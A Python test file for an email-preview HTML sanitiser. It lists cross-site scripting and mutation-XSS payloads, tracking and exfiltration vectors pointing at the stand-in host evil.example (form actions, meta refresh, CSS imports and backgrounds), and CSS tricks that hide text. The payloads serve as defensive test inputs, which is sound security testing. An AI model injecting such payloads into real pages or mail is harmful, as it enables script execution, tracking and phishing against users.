from __future__ import annotations

from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clawback.analysis.html import elements, parse
from clawback.preview.sanitised import STYLES, TAGS, sanitised

HARMLESS_TAGS = TAGS | {"html", "head", "body"}
HARMLESS_ATTRIBUTES = {"alt", "bgcolor", "dir", "height", "lang", "style", "title", "width"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<form action='https://evil.example'><input name=p></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'><img src=pixel.gif>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url('https://evil.example/p.gif')\">x</div>",
    "<div style='background-color:\\75rl(https://evil.example)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<table background='https://evil.example/p.gif'><tr><td>x</td></tr></table>",
    "<img srcset='https://evil.example/p.gif 1x'>",
    "<video poster='https://evil.example/p.gif'></video>",
    "<object data='https://evil.example/x.swf'></object>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x&gt;'>",
    "<template><script>alert(1)</script></template>",
    "<p style='position:fixed;top:0;left:0;width:100%'>cover</p>",
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_acts(markup):
    """No script, no address and no style that could fetch or cover survives."""
    harmless = sanitised(f"<p>before</p>{markup}")
    assert acting(harmless) == []
    assert "before" in harmless


@given(st.text(alphabet="<>/='\" abhimgscriptonerrorstyle:url()&;#x0", max_size=300))
def test_whatever_the_markup_nothing_acts(markup):
    """However tags are broken, a browser's reading of the result finds nothing that acts."""
    assert acting(sanitised(markup)) == []


def acting(markup: str) -> list[str]:
    """What a browser would see in the markup that it should not."""
    found = []
    for element in elements(parse(markup), "*"):
        found += [element.tag] if element.tag not in HARMLESS_TAGS else []
        found += [name for name in element.node.attrs if name not in HARMLESS_ATTRIBUTES]
        style = element.attribute("style").lower()
        found += [word for word in ("url", "expression", "position", "\\") if word in style]
    return found


def test_a_mail_looks_like_itself():
    """Tables, colours and sizes stay; a picture leaves its words."""
    markup = (
        "<table width=600 bgcolor='#eee'><tr><td style='color: red; padding: 4px'>Pay"
        "<img src='https://a.example/p.png' alt='our logo' width=10></td></tr></table>"
    )
    harmless = sanitised(markup)
    for kept in ('width="600"', 'bgcolor="#eee"', "color:red", "padding:4px", 'alt="our logo"'):
        assert kept in harmless
    assert "a.example" not in harmless


@pytest.mark.parametrize(
    "style",
    [
        "font-size: 0",
        "font-size: 1px",
        "font-size: .1em",
        "font-size: calc(0px)",
        "line-height: 0",
        "color: transparent",
        "width: 0",
        "max-width: 0px",
        "margin-left: -9999px",
        "text-indent: -9999px",
        "display: none",
        "visibility: hidden",
        "opacity: 0",
        "position: absolute",
        "height: 1px; overflow: hidden",
        "white-space: nowrap; transform: scale(0)",
    ],
)
def test_nothing_is_hidden(style):
    """A style that takes words out of sight is taken off, and the one beside it stays."""
    harmless = sanitised(f"<p style='{style}; font-weight: bold'>secret</p>")
    assert "secret" in harmless
    assert _styles(harmless) <= {"font-weight:bold", "white-space:nowrap"}


def _styles(markup: str) -> set[str]:
    return {
        one
        for element in elements(parse(markup), "[style]")
        for one in element.attribute("style").split(";")
        if one
    }


def test_every_style_is_spelled_whole():
    """No property of the list was torn apart where a line of the code ends."""
    assert {one for one in STYLES if one.endswith("-")} == set()
    assert {"border-right", "font-weight", "text-align"} <= STYLES


def test_a_form_leaves_its_words():
    """Most of a phishing mail may stand in its form, and is to be read."""
    markup = "<form action=//evil.example>Your <b>password</b><input name=p><button>Go</button>"
    assert sanitised(markup) == "Your <b>password</b>Go"


def test_what_programs_without_scripts_show_is_shown():
    """As a mail program reads it: markup, not text."""
    assert sanitised("<noscript class=x><b>Pay</b> now</noscript>") == "<b>Pay</b> now"


@pytest.mark.parametrize(
    "markup",
    ["<div>" * 100_000 + "end", "".join(f"<b id={n}>" for n in range(20_000)) + "<p>end" * 20_000],
    ids=["deep", "formatting"],
)
def test_no_nesting_takes_long(markup):
    """What another parser made flat is cleaned in time, and its words are there."""
    started = process_time()
    assert "end" in sanitised(markup)
    assert process_time() - started < 3


def test_nothing_is_nothing():
    """A mail without HTML has no HTML to show."""
    assert sanitised(" \n") == ""
